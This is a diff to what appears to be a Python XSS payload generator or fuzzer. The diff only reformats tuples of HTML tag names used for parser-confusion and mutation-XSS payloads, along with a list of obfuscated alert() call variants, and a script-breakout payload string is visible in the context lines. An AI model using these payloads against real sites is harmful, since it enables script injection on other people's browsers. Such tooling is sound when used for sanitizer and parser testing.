@@ -296,12 +296,56 @@ PAYLOADS = (
     "\"'></textarea></title></style></script><script>{}</script>",
 )
 # The payload stands where one parser sees a text or an attribute and another one an element.
-FOREIGN = ("svg", "math", "math><mtext", "svg><desc", "svg><foreignObject", "svg><title", "math><mi",
-           "math><annotation-xml encoding=text/html", "math><mglyph", "svg><p", "math><p")  # fmt: skip
-RAW = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script",
-       "plaintext", "template", "select", "option", "listing")  # fmt: skip
-STEERING = ("table", "form", "p", "a", "b", "nobr", "button", "ul><li", "table><tr><td", "dl><dt",
-            "select", "object", "ruby><rt", "caption", "mglyph", "malignmark", "br", "h1", "div")  # fmt: skip
+FOREIGN = (
+    "svg",
+    "math",
+    "math><mtext",
+    "svg><desc",
+    "svg><foreignObject",
+    "svg><title",
+    "math><mi",
+    "math><annotation-xml encoding=text/html",
+    "math><mglyph",
+    "svg><p",
+    "math><p",
+)
+RAW = (
+    "style",
+    "title",
+    "textarea",
+    "noscript",
+    "xmp",
+    "iframe",
+    "noembed",
+    "noframes",
+    "script",
+    "plaintext",
+    "template",
+    "select",
+    "option",
+    "listing",
+)
+STEERING = (
+    "table",
+    "form",
+    "p",
+    "a",
+    "b",
+    "nobr",
+    "button",
+    "ul><li",
+    "table><tr><td",
+    "dl><dt",
+    "select",
+    "object",
+    "ruby><rt",
+    "caption",
+    "mglyph",
+    "malignmark",
+    "br",
+    "h1",
+    "div",
+)
 COMMENTS = (
     "<!--{}-->",
     "<!-->{}-->",
@@ -410,9 +454,19 @@ def _mutation(chance: random.Random) -> str:
 
 def _call(chance: random.Random) -> str:
     return chance.choice(
-        (CALL, CALL, "alert`1`", "top.alert(1)", "&#97;lert(1)", "alert&lpar;1&rpar;", "\\u0061lert(1)",
-         "eval('ale'+'rt(1)')", "window['alert'](1)", "throw/**/onerror=alert,1")
-    )  # fmt: skip
+        (
+            CALL,
+            CALL,
+            "alert`1`",
+            "top.alert(1)",
+            "&#97;lert(1)",
+            "alert&lpar;1&rpar;",
+            "\\u0061lert(1)",
+            "eval('ale'+'rt(1)')",
+            "window['alert'](1)",
+            "throw/**/onerror=alert,1",
+        )
+    )
 
 
 def _cased(name: str, chance: random.Random) -> str:
